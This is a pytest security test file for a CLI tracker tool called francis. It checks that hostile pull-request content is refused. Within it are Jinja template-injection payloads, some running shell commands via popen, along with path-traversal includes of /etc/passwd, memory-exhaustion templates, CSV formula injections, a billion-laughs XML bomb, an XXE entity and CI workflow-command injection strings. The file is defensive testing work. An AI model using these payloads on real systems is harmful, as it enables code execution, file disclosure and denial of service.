"""Untrusted pull requests: template escapes, paths out of folders, full disks, CSV injection, no network.

A pull request can change any file of a tracker, including its templates/ folder, and CI runs
francis on it. Each test here is one way such content could break out, exfiltrate a secret,
hang CI or lose the record, and shows it is refused with one line and a documented exit code.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import shutil
import socket
import subprocess
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import REPO, RunCli, Tracker

MARKER = "pwned-marker"


def _payloads(marker: Path) -> list[str]:
    """Known Jinja server-side template injection payloads; several would run ``touch marker``."""
    touch = f"touch {marker}"
    return [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{{{{ ''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('{touch}').read() }}}}",
        "{{ cycler.__init__.__globals__.os }}",
        f"{{{{ cycler.__init__.__globals__.os.popen('{touch}').read() }}}}",
        "{{ joiner.__init__.__globals__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ self.__init__.__globals__ }}",
        "{{ self.__dict__ }}",
        "{{ lipsum.__globals__ }}",
        f"{{{{ lipsum.__globals__['os'].popen('{touch}').read() }}}}",
        "{{ lipsum.__code__ }}",
        "{{ config }}",
        "{{ config.items() }}",
        "{{ request }}",
        f"{{{{ request.application.__globals__.__builtins__.__import__('os').popen('{touch}').read() }}}}",
        "{{ environment }}",
        "{{ url_for.__globals__ }}",
        "{{ get_flashed_messages.__globals__ }}",
        "{{ ''|attr('__class__') }}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ report|attr('__class__') }}",
        "{{ report.__class__ }}",
        "{{ report['__class__'] }}",
        "{{ report.cover.__reduce_ex__(2) }}",
        "{{ [report]|map(attribute='__class__')|list }}",
        "{{ (1).__class__ }}",
        "{{ [].pop.__self__ }}",
        "{{ dict.__base__ }}",
        "{% set x = ''.__class__ %}{{ x }}",
        "{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}",
        "{{ '{0.__class__}'.format(report) }}",
        "{{ '{0.__class__.__init__.__globals__}'.format(report.cover) }}",
        "{{ '{0.__init__.__globals__}'.format_map({'0': cycler}) }}",
        "{{ '%s' % report.__class__ }}",
        "{% include '/etc/passwd' %}",
        "{% include '../../../../../../etc/passwd' %}",
        "{% import '../../x' as x %}",
        "{% extends '/etc/passwd' %}",
        "{% from '../francis.yaml' import x %}",
        # amplifiers that would exhaust a CI runner's memory or time
        "{{ 'a' * 10**10 }}",
        "{{ [1] * 10**9 }}",
        "{{ 9**999999 }}",
        "{{ range(10**10)|list }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    ]


PAYLOADS = _payloads(Path("/nonexistent") / MARKER)


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_template_escape_payloads_are_refused(index: int, tracker: Tracker, run_cli: RunCli, tmp_path: Path) -> None:
    marker = tmp_path / MARKER
    payload = _payloads(marker)[index]
    tracker.write("templates/report.md.j2", f"# Board paper\n{payload}\n")
    result = run_cli("report", root=tracker.root)
    assert result.exit_code == 2, result.stdout[:300]
    assert result.stdout == ""
    assert result.stderr.startswith("francis: template ") and result.stderr.count("\n") == 1, result.stderr
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
    assert not marker.exists()


def test_escapes_in_an_html_partial_are_refused_too(tracker: Tracker, run_cli: RunCli) -> None:
    tracker.write("templates/partials/cover.html.j2", "<p>{{ cycler.__init__.__globals__.os }}</p>\n")
    result = run_cli("report", "--format", "html", root=tracker.root)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == ("francis: template partials/cover.html.j2 line 1: not allowed in a template: access to "
                             "attribute '__init__' of 'type' object is unsafe.\n")  # fmt: skip


def test_an_error_inside_a_template_expression_is_the_templates_not_franciss(tracker: Tracker, run_cli: RunCli) -> None:
    tracker.write("templates/report.md.j2", "# Paper\n\n{{ report.cover.title }}\n{{ 1 / 0 }}\n")
    result = run_cli("report", root=tracker.root)
    assert (result.exit_code, result.stderr) == (2, "francis: template report.md.j2 line 4: ZeroDivisionError: "
                                                    "division by zero\n")  # fmt: skip


# --- template names and symlinks cannot leave the templates folder ------------------------------------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "outside" / "secret.md.j2"
    path.parent.mkdir()
    path.write_text("SECRET=hunter2\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("name", ["../secret.md.j2", "../../outside/secret.md.j2", "/etc/passwd.md.j2",
                                  "sub/../../secret.md.j2", "..\\secret.md.j2", "C:\\Windows\\x.md.j2",
                                  " "])  # fmt: skip
def test_template_option_cannot_leave_the_folder(name: str, tracker: Tracker, run_cli: RunCli, secret: Path) -> None:
    result = run_cli("report", "--template", name, root=tracker.root)
    assert result.exit_code == 2 and "hunter2" not in result.stdout
    assert result.stderr.startswith("francis: ") and result.stderr.count("\n") == 1


@pytest.mark.parametrize("how", ["default-name", "template-option", "include", "folder-link"])
def test_symlinks_out_of_the_templates_folder_are_not_read(how: str, tracker: Tracker, run_cli: RunCli,
                                                           secret: Path) -> None:  # fmt: skip
    templates = tracker.root / "templates"
    templates.mkdir()
    args: list[str] = []
    if how == "default-name":
        os.symlink(secret, templates / "report.md.j2")
    elif how == "template-option":
        os.symlink(secret, templates / "mine.md.j2")
        args = ["--template", "mine.md.j2"]
    elif how == "include":
        os.symlink(secret, templates / "leak.md.j2")
        (templates / "report.md.j2").write_text("{% include 'leak.md.j2' %}\n", encoding="utf-8")
    else:
        shutil.copy(secret, secret.parent / "cover.md.j2")
        os.symlink(secret.parent, templates / "partials")
    result = run_cli("report", *args, root=tracker.root)
    assert result.exit_code == 2 and "hunter2" not in result.stdout + result.stderr
    assert re.fullmatch(r"francis: template [^\n]*: not allowed in a template: '[\w/.]+' is a symlink leading "
                        r"outside its templates folder; not read\n", result.stderr), result.stderr  # fmt: skip


def test_a_templates_folder_that_is_a_symlink_out_of_the_tracker_is_not_read(tracker: Tracker, run_cli: RunCli,
                                                                             secret: Path) -> None:  # fmt: skip
    shutil.copy(secret, secret.parent / "report.md.j2")
    os.symlink(secret.parent, tracker.root / "templates")
    result = run_cli("report", root=tracker.root)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == "francis: templates/ is a symlink leading outside the tracker; not read\n"


def test_a_symlink_inside_the_templates_folder_is_fine(tracker: Tracker, run_cli: RunCli) -> None:
    tracker.write("templates/short.md.j2", "Short paper: {{ report.cover.title }}\n")
    os.symlink("short.md.j2", tracker.root / "templates/alias.md.j2")
    result = run_cli("report", "--template", "alias.md.j2", root=tracker.root)
    assert (result.exit_code, result.stderr) == (0, "")
    assert result.stdout.startswith("Short paper: ")


def test_output_goes_wherever_the_user_names(tracker: Tracker, run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "elsewhere" / "deeper" / "paper.md"
    result = run_cli("report", "-o", str(out), root=tracker.root)
    assert (result.exit_code, result.stderr) == (0, "")
    assert out.read_text(encoding="utf-8").startswith("# ")


def test_output_to_a_folder_is_one_line_not_an_internal_error(tracker: Tracker, run_cli: RunCli,
                                                               tmp_path: Path) -> None:  # fmt: skip
    result = run_cli("report", "-o", str(tmp_path), root=tracker.root)
    assert result.exit_code == 2
    assert result.stderr == f"francis: cannot write {tmp_path}: Is a directory; the file is unchanged\n"


# --- PDF: a template cannot make WeasyPrint fetch a URL or embed a local file ----------------------------------


def _pdf_text(pdf: bytes) -> bytes:
    streams = [pdf]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", pdf, re.S):
        try:
            streams.append(zlib.decompress(match.group(1)))
        except zlib.error:
            streams.append(match.group(1))
    return b"".join(streams)


def test_pdf_fetches_nothing_and_embeds_no_local_file(tracker: Tracker, run_cli: RunCli, secret: Path,
                                                      tmp_path: Path, no_network: list[str]) -> None:  # fmt: skip
    try:
        import weasyprint  # noqa: F401
    except (ImportError, OSError):  # not installed, or its system libraries (Pango) are missing
        pytest.skip("WeasyPrint is not usable here")
    url = secret.as_uri()
    tracker.write("templates/leak.html.j2", f'<html><body><p>paper</p><a rel="attachment" href="{url}">a</a>'
                                            f'<img src="{url}"><img src="https://example.invalid/x.png">'
                                            '<link rel="stylesheet" href="http://example.invalid/x.css">'
                                            "</body></html>\n")  # fmt: skip
    out = tmp_path / "paper.pdf"
    result = run_cli("report", "--format", "pdf", "--template", "leak.html.j2", "-o", str(out), root=tracker.root)
    assert (result.exit_code, result.stderr) == (0, "")
    pdf = out.read_bytes()
    assert pdf.startswith(b"%PDF") and b"hunter2" not in _pdf_text(pdf)
    assert no_network == []


# --- nothing lost: a full disk --------------------------------------------------------------------------------


def _only_the_file(folder: Path, name: str) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name != name)


def test_enospc_while_writing_leaves_the_original_and_says_so(tracker: Tracker, run_cli: RunCli,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    path = tracker.root / "data/workplan/org-a.yaml"
    raw = path.read_bytes()

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    result = run_cli("action", "note", "org-a", "1.1", "Drafted.", "--date", "2024-02-01", root=tracker.root)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"francis: cannot write {path}: No space left on device; the file is unchanged\n"
    assert path.read_bytes() == raw
    assert _only_the_file(path.parent, "org-a.yaml") == []
    monkeypatch.undo()
    check = run_cli("check", root=tracker.root)
    assert (check.exit_code, check.stdout) == (0, "")


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 1 MiB tmpfs (needs root and mount; skipped elsewhere): a disk that really fills up."""
    folder = tmp_path / "tiny"
    folder.mkdir()
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a tmpfs needs root")
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)],
                             capture_output=True, check=False)  # fmt: skip
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode(errors='replace').strip()}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=False)


def _fill(folder: Path, leave_pages: int) -> Path:
    """Fill the disk, then free ``leave_pages`` pages: the next writes run out of space part way."""
    room = folder / "room"
    room.write_bytes(b"\0" * 4096 * leave_pages)
    filler = folder / "filler"
    with open(filler, "wb", buffering=0) as handle:
        try:
            while True:
                handle.write(b"\0" * 4096)
        except OSError as err:
            assert err.errno == errno.ENOSPC
    room.unlink()
    return filler


@pytest.mark.parametrize("leave_pages", [0, 1], ids=["no-room-for-the-lock", "no-room-for-the-file"])
def test_a_really_full_disk(tiny_disk: Path, leave_pages: int, tracker: Tracker, run_cli: RunCli) -> None:
    root = tiny_disk / "tracker"
    shutil.copytree(tracker.root, root)
    path = root / "data/workplan/org-a.yaml"
    raw = path.read_bytes()
    filler = _fill(tiny_disk, leave_pages)
    result = run_cli("action", "note", "org-a", "1.1", "Drafted." * 600, "--date", "2024-02-01", root=root)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        f"francis: cannot write the lock file {path.with_name('.org-a.yaml.lock')}: No space left on device; "
        "nothing written\n" if leave_pages == 0 else
        f"francis: cannot write {path}: No space left on device; the file is unchanged\n")  # fmt: skip
    assert path.read_bytes() == raw
    assert _only_the_file(path.parent, "org-a.yaml") == []  # no temp file, no lock left to block the next edit
    if leave_pages == 0:
        paper = run_cli("report", "-o", str(tiny_disk / "paper.md"), root=root)
        assert (paper.exit_code, paper.stderr) == (2, f"francis: cannot write {tiny_disk / 'paper.md'}: No space "
                                                      "left on device; the file is unchanged\n")  # fmt: skip
        assert not (tiny_disk / "paper.md").exists()
    filler.unlink()
    check = run_cli("check", root=root)
    assert (check.exit_code, check.stdout) == (0, "")
    again = run_cli("action", "note", "org-a", "1.1", "Drafted.", "--date", "2024-02-01", root=root)
    assert again.exit_code == 0, again.stderr


# --- CSV injection: the cells a spreadsheet would run ---------------------------------------------------------


@pytest.mark.parametrize("title", ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1",
                                   "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")"])  # fmt: skip
def test_csv_export_defuses_every_formula_trigger_and_imports_back(title: str, tracker: Tracker, run_cli: RunCli,
                                                                    tmp_path: Path) -> None:  # fmt: skip
    import json

    path = tracker.root / "data/workplan/org-a.yaml"
    path.write_text(path.read_text().replace("title: Write the strategy", f"title: {json.dumps(title)}"))
    out = tmp_path / "actions.csv"
    assert run_cli("export", "actions", "--format", "csv", "-o", str(out), root=tracker.root).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    column = rows[0].index(next(h for h in rows[0] if h.lower() in ("title", "action")))
    assert rows[1][column] == "'" + title
    back = run_cli("import", "actions", str(out), "--org", "org-a", "--dry-run", root=tracker.root)
    assert back.exit_code == 0, back.stderr
    changed = [line for line in back.stdout.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert not [line for line in changed if "title" in line], back.stdout  # the title reads back as it was


def test_xlsx_export_writes_formulas_as_text(tracker: Tracker, run_cli: RunCli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tracker.root / "data/workplan/org-a.yaml"
    path.write_text(path.read_text().replace("title: Write the strategy", "title: '=1+1'"))
    out = tmp_path / "actions.xlsx"
    assert run_cli("export", "actions", "--format", "xlsx", "-o", str(out), root=tracker.root).exit_code == 0
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == "=1+1"]
    assert [c.data_type for c in cells] == ["s"]


# --- no network -----------------------------------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Socket creation and name lookups raise, and are recorded: a library that swallows the
    error (WeasyPrint logs a failed fetch and goes on) still leaves its attempt in the list."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args))
        raise OSError(f"francis tried to use the network: {args!r}")

    class Refused(socket.socket):  # a class, so that modules subclassing socket.socket (ssl) still import
        def __init__(self, *args: object, **kwargs: object) -> None:
            refuse(*args)

    monkeypatch.setattr(socket, "socket", Refused)
    for name in ("create_connection", "getaddrinfo", "socketpair", "fromfd"):
        monkeypatch.setattr(socket, name, refuse)
    return attempts


@pytest.fixture
def bundled_repo(tmp_path: Path) -> Path:
    """A copy of the bundled tracker as a git repository with one commit."""
    root = tmp_path / "bundled"
    shutil.copytree(REPO / "data", root / "data")
    shutil.copy(REPO / "francis.yaml", root / "francis.yaml")
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}  # fmt: skip
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "start"]):
        subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True)
    return root


READ_ONLY = [
    ["check"], ["check", "--format", "json"], ["status"], ["status", "--format", "json"],
    ["status", "--by", "organisation", "--format", "csv"], ["overdue", "--within", "30"], ["show", "132"],
    ["show", "merton-ccg:2.1"], ["report"], ["report", "--format", "html"], ["diff", "HEAD"], ["history", "132"],
    ["schema", "assessments"], ["export", "actions", "--format", "csv"], ["export", "assessments", "--format", "xlsx"],
    ["--help"], ["--version"],
]  # fmt: skip


@pytest.mark.parametrize("args", READ_ONLY, ids=" ".join)
def test_no_command_touches_the_network(args: list[str], bundled_repo: Path, run_cli: RunCli, tmp_path: Path,
                                        no_network: list[str], monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    monkeypatch.setenv("FRANCIS_AS_OF", "2013-10-01")
    if args[0] == "export":
        args = [*args, "-o", str(tmp_path / f"out.{args[-1]}")]
    result = run_cli(*args, root=bundled_repo)
    assert (result.exit_code, no_network) == (0, []), result.stderr


def test_an_edit_touches_no_network_either(bundled_repo: Path, run_cli: RunCli, no_network: list[str]) -> None:
    result = run_cli("action", "note", "merton-ccg", "3.2", "Scoped.", "--date", "2013-06-01", root=bundled_repo)
    assert (result.exit_code, no_network) == (0, []), result.stderr


# --- CI logs: a problem line is one line, whatever the file held ----------------------------------------------


def test_problem_lines_cannot_inject_workflow_commands_or_escapes(tracker: Tracker, run_cli: RunCli) -> None:
    """GitHub Actions runs any log line starting ``::`` as a workflow command: data that carried a
    line break into a problem message could add annotations or masks to the pull request's run."""
    due = r'"x\n::error file=evil::pwned \e[31mred\u2028z"'
    tracker.write("data/workplan/org-a.yaml", f'organisation: org-a\nactions:\n  - id: "1"\n    title: t\n'
                                              f"    due: {due}\n")  # fmt: skip
    tracker.write("data/assessments/a\n::warning::named.yaml", "organisation: org-a\nassessments: oops\n")
    result = run_cli("check", root=tracker.root)
    assert result.exit_code == 1
    assert result.stdout == (
        "data/assessments/a\\n::warning::named.yaml:2:14: error invalid-value assessments: expected a list, "
        "got 'oops'\n"
        "data/workplan/org-a.yaml:5:10: error invalid-date due: 'x\\n::error file=evil::pwned \\x1b[31mred\\u2028z' "
        "is not a due date: write 2014-12-31, 2014-12, 2014-Q4 or 2014\n"
    )


# --- the reader: cases the fuzzers found ----------------------------------------------------------------------


def test_a_yaml_1_3_directive_is_a_problem_with_either_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    """ruamel's pure-Python parser (used where ruamel.yaml.clib has no wheel) raised AssertionError."""
    from francis_cli.yamlio import _events as _yamlevents
    from francis_cli.yamlio import read as yamlio

    events = _yamlevents._events
    monkeypatch.setattr(_yamlevents, "_events", lambda text, fast=False: events(text, False))
    doc = yamlio.parse("%YAML 1.3\n---\norganisation: org-a\n")
    assert [(p.line, p.col, p.code) for p in doc.problems] == [(1, 1, "yaml-syntax")]


def test_the_fast_read_and_the_full_read_agree_after_two_byte_order_marks() -> None:
    from francis_cli.yamlio import read as yamlio

    text = "\ufeff\ufeff\x1f"
    assert yamlio.parse(text, positions=False).problems == yamlio.parse(text).problems


# --- hostile spreadsheets for `francis import` ----------------------------------------------------------------


def test_a_csv_cell_too_long_for_the_csv_reader_is_one_line(tracker: Tracker, run_cli: RunCli, tmp_path: Path) -> None:
    sheet = tmp_path / "big.csv"
    sheet.write_text('Ref,Action,Lead\n1.1,"' + "a" * 200_000 + '",DoQ\n', encoding="utf-8")
    result = run_cli("import", "actions", str(sheet), "--org", "org-a", root=tracker.root)
    assert (result.exit_code, result.stderr) == (2, f"francis: {sheet}: cannot read the CSV at line 2: field larger "
                                                    "than field limit (131072)\n")  # fmt: skip


def _xlsx_with_doctype(path: Path, doctype: str, entity: str) -> Path:
    """A real workbook whose sheet XML declares ``doctype`` and uses ``entity`` as a cell's text."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Ref", "Action", "Lead"])
    book.active.append(["1.1", "PLACEHOLDER", "DoQ"])
    plain = io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w") as out:
        for name in src.namelist():
            data = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"^<\?xml[^>]*\?>", b"", data)
                data = doctype.encode() + data.replace(b">PLACEHOLDER<", f">{entity}<".encode())
            out.writestr(name, data)
    return path


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
          + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>")  # fmt: skip


@pytest.mark.parametrize(("doctype", "entity"), [
    pytest.param(LAUGHS, "&lol9;", id="billion-laughs"),
    pytest.param('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", id="external-entity"),
])  # fmt: skip
def test_xml_entity_attacks_in_an_xlsx_are_refused(doctype: str, entity: str, tracker: Tracker, run_cli: RunCli,
                                                   tmp_path: Path) -> None:  # fmt: skip
    sheet = _xlsx_with_doctype(tmp_path / "attack.xlsx", doctype, entity)
    result = run_cli("import", "actions", str(sheet), "--org", "org-a", "--dry-run", root=tracker.root)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == f"francis: {sheet}: not a readable XLSX file (ParseError)\n"
    assert "root:" not in result.stdout + result.stderr


# --- nothing lost: real processes editing at once -------------------------------------------------------------


def test_processes_editing_one_file_at_once_never_merge(tracker: Tracker, run_cli: RunCli) -> None:
    """Edits by separate processes at the same moment: each either lands whole or is refused with
    the conflict named; the file always holds exactly the notes of the edits that said so."""
    import sys

    env = {**os.environ, "NO_COLOR": "1"}
    landed: list[str] = []
    for round_ in range(3):
        procs = [(note, subprocess.Popen([sys.executable, "-m", "francis_cli", "--root", str(tracker.root), "action",
                                          "note", "org-a", "1.1", note, "--date", "2024-02-01"],
                                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env))
                 for note in (f"round {round_} first", f"round {round_} second", f"round {round_} third")]  # fmt: skip
        for note, proc in procs:
            _, err = proc.communicate(timeout=120)
            assert proc.returncode in (0, 1), err
            if proc.returncode == 0:
                landed.append(note)
            else:
                assert "being edited by another francis process" in err or "changed on disk since it was read" in err
    text = (tracker.root / "data/workplan/org-a.yaml").read_text(encoding="utf-8")
    assert sorted(re.findall(r"round \d \w+", text)) == sorted(landed)
    assert _only_the_file(tracker.root / "data/workplan", "org-a.yaml") == []
    check = run_cli("check", root=tracker.root)
    assert (check.exit_code, check.stdout) == (0, "")


def test_the_fuzz_target_accepts_its_seed_corpus(tmp_path: Path) -> None:
    """The atheris target keeps working as the loader changes (where atheris is installed)."""
    import importlib.util

    pytest.importorskip("atheris")
    spec = importlib.util.spec_from_file_location("fuzz_loader", REPO / "fuzz" / "fuzz_loader.py")
    assert spec is not None and spec.loader is not None
    target = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(target)
    assert target.write_seeds(tmp_path / "corpus") > 30  # the bundled files, and six snippets under each kind
    for seed in sorted((tmp_path / "corpus").iterdir()):
        target.test_one_input(seed.read_bytes())
